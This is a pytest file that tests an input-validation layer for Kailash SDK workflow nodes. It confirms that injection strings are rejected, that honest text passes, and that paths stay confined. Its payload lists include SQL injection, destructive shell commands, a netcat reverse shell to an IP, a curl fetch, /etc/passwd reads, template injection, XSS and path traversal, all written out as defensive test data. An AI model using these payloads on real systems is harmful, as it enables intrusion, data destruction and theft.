"""Injections are rejected, honest text is not, on the released SDK: alone, and in a workflow."""

from __future__ import annotations

import contextlib
from typing import Any

import pytest
from kailash.nodes.base import NodeParameter, register_node
from kailash.runtime.local import LocalRuntime
from kailash.workflow.builder import WorkflowBuilder
from pydantic import ValidationError

from governed import GovernedNode, InjectionError, SafeParameter

INJECTIONS = {
    "sql": [
        "x' OR 1=1; DROP TABLE t;--",
        "' or 'a'='a",
        "1; DROP TABLE users",
        "1 UNION SELECT password FROM users",
        "x'; DELETE FROM users WHERE 'a'='a",
        "admin'--",
        "admin' #",
        "1) OR (1=1",
        '" or ""="',
        "x' AND 1=1 --",
        "1 union/**/select 1",
        "'; exec xp_cmdshell('dir')",
        "1' or true",
        "x' || pg_sleep(10)--",
        "1; SELECT pg_sleep(5)",
        "x%27%20OR%201%3D1",
        "x%2527%2520OR%25201%253D1",
    ],
    "shell": [
        "a; rm -rf / $(id)",
        "$(curl evil)",
        "`id`",
        "a | sh",
        "a && cat /etc/passwd",
        "x; shutdown -h now",
        "a\nrm -rf ~",
        "| nc -e /bin/sh 1.2.3.4",
        "x > /etc/passwd",
        "${IFS}cat",
        "a & ping -c 9 x &",
        "<(cat /etc/passwd)",
    ],
    "template": ["{{ 7*7 }}", "{% import os %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{x.__class__.__init__}"],
    "script": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>",
        "<svg/onload=alert(1)>",
        "<iframe src=//evil>",
        "< script >",
        "javascript:alert(1)",
        "data:text/html,<b>",
    ],
}
HONEST = [
    "O'Brien",
    "Rock 'n' Roll",
    "d'Artagnan & Söhne GmbH",
    "It's a 5\" pipe; it fits -- mostly.",
    "5 > 3 and 2 < 4",
    "Die Schrauben sind aus Stahl; löschen Sie nichts, bevor der Auftrag bestätigt ist.",
    "Preis: 3,50 € (inkl. 19 % USt.)",
    "Select the right drill, or update your order.",
    "Drop us a line; delete what you don't need.",
    "Union Street 5, Apt. #4",
    "a--b",
    "C# and F#",
    "R&D; QA",
    "see https://example.org/a?b=1&c=2#d",
    "100% cotton (50/50), size {M}",
    "x = y or z",
    "The 'or' in 'this or that' is a word",
    "5 o'clock and 6 o'clock",
    "\"quoted\" and 'quoted'",
    "tom@example.org",
    "He said: 'and so on'",
    "Ready or not, here I come; cat and dog",
    "echo of the past; kill time",
    "1 and 2; 3 and 4",
    "The user is in the group",
    "日本語のテキスト",
    "Müller's (alt) & neu",
    "price < 5 or price > 10",
    "`code` in Markdown",
]
DOCUMENT = "Use `rm -rf build` and <script src=a.js></script>; SELECT 1; {{ name }} is a template. $(date)"


@register_node()
class EchoNode(GovernedNode):
    """Returns what it gets."""

    def get_parameters(self) -> dict[str, NodeParameter]:
        """Declare a text by each use."""
        return {
            "text": SafeParameter(name="text", type=str, required=False),
            "path": SafeParameter(name="path", type=str, required=False, rules=["path"]),
            "table": SafeParameter(name="table", type=str, required=False, rules=["word"]),
            "argument": SafeParameter(name="argument", type=str, required=False, rules=["argument"]),
            "document": SafeParameter(name="document", type=str, required=False, rules=["document"]),
            "data": SafeParameter(name="data", type=dict, required=False),
            "count": NodeParameter(name="count", type=int, required=False, default=3),
            "order": NodeParameter(name="order", type=str, required=False, choices=["asc", "desc"], default="asc"),
        }

    def run_governed(self, **kwargs: Any) -> dict[str, Any]:
        """Return all of it."""
        return {"result": {name: value for name, value in kwargs.items() if value is not None}}


def run(**values: Any) -> dict[str, Any]:
    """Return what the node hands on."""
    found: dict[str, Any] = EchoNode().execute(**values)["result"]
    return found


@pytest.mark.parametrize("text", [text for texts in INJECTIONS.values() for text in texts])
def test_injections_are_rejected(text: str) -> None:
    """Each, also within a container; the message holds no value."""
    for values in ({"text": text}, {"data": {"a": [{"b": text}]}}, {"data": {text: 1}}):
        with pytest.raises(InjectionError) as refused:
            run(**values)
        assert text not in str(refused.value)


@pytest.mark.parametrize(("rule", "text"), [(rule, text) for rule, texts in INJECTIONS.items() for text in texts])
def test_each_is_found_by_its_rule(rule: str, text: str) -> None:
    """Not by another one that happens to match."""
    with pytest.raises(InjectionError, match=f"rule {rule}"):
        SafeParameter(name="x", type=str, rules=[rule]).check(text)


@pytest.mark.parametrize("text", HONEST)
def test_honest_text_passes(text: str) -> None:
    """As it is."""
    assert run(text=text)["text"] == text


def test_a_document_may_hold_code() -> None:
    """It is stored and shown, never interpreted."""
    assert run(document=DOCUMENT)["document"] == DOCUMENT
    with pytest.raises(InjectionError):
        run(document="a\0b")


@pytest.mark.parametrize(
    ("path", "good"),
    [
        ("reports/2026/a b.pdf", True),
        ("a..b/c", True),
        ("../../etc/passwd", False),
        ("/etc/passwd", False),
        ("a/../../b", False),
        ("..\\..\\windows", False),
        ("C:\\x", False),
        ("%2e%2e/x", False),
        ("%252e%252e/x", False),
        ("~/x", False),
        ("a\0.pdf", False),
        ("", False),
    ],
)
def test_paths(path: str, good: bool) -> None:
    """Stay within their directory."""
    if good:
        assert run(path=path)["path"] == path
    else:
        with pytest.raises(InjectionError):
            run(path=path)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("table", "a b"),
        ("table", "a;b"),
        ("table", "1a"),
        ("argument", "-rf"),
        ("argument", "a;b"),
        ("argument", "a$b"),
    ],
)
def test_words_and_arguments(name: str, value: str) -> None:
    """Hold what is allowed, and nothing else."""
    with pytest.raises(InjectionError):
        run(**{name: value})
    assert run(table="orders_2026", argument="--name=x".lstrip("-"))["table"] == "orders_2026"


def test_in_a_workflow() -> None:
    """Configuration, parameters and defaults arrive; an injection never does, however the SDK reports it."""
    flow = WorkflowBuilder()
    flow.add_node("EchoNode", "echo", {"text": "O'Brien"})
    with LocalRuntime() as runtime:
        results, _ = runtime.execute(flow.build(), parameters={"echo": {"count": 5}})
    assert results["echo"]["result"] == {"text": "O'Brien", "count": 5, "order": "asc"}
    bad = WorkflowBuilder()
    bad.add_node("EchoNode", "echo", {})
    with LocalRuntime() as runtime:
        try:
            results, _ = runtime.execute(bad.build(), parameters={"echo": {"text": "x' OR 1=1 --"}})
        except Exception as error:
            shown = str(error)
        else:
            assert results["echo"].get("failed")
            shown = str(results["echo"]["error"])
    assert "rule sql" in shown


def test_text_where_a_number_is_expected() -> None:
    """It is rejected; so is a value that is no choice."""
    for values in ({"count": "1; DROP TABLE t"}, {"order": "asc; DROP TABLE t"}):
        with pytest.raises((InjectionError, ValueError, TypeError)):
            run(**values)


def test_declarations_that_validate_nothing_are_refused() -> None:
    """Bare text parameters, unknown rules, and none."""

    class BareNode(GovernedNode):  # ready: allow GS04 it can't be made
        def get_parameters(self) -> dict[str, NodeParameter]:
            return {"query": NodeParameter(name="query", type=str)}  # ready: allow SEC01 that is the point

        def run_governed(self, **kwargs: Any) -> dict[str, Any]:
            return kwargs

    with pytest.raises(TypeError, match="query can hold text"):
        BareNode()
    for rules in (["sqll"], []):
        with pytest.raises(ValidationError):
            SafeParameter(name="x", type=str, rules=rules)


def test_long_text() -> None:
    """It ends in time: rules are no trap for the regular expressions' engine."""
    with pytest.raises(InjectionError, match="expected at most"):
        run(text="a" * 20_000)
    for part in ("' or ", "$(", "{{ ", "<a ", "union ", "/*", "' ; ", "& "):
        text = (part * 5000)[:9_900]
        SafeParameter(name="x", type=str, rules=["document"]).check(text)
        with contextlib.suppress(InjectionError):
            run(text=text)


def test_no_value_is_printed(capsys: pytest.CaptureFixture[str]) -> None:
    """Nor anything else, on standard output."""
    run(text="honest")
    assert capsys.readouterr().out == ""
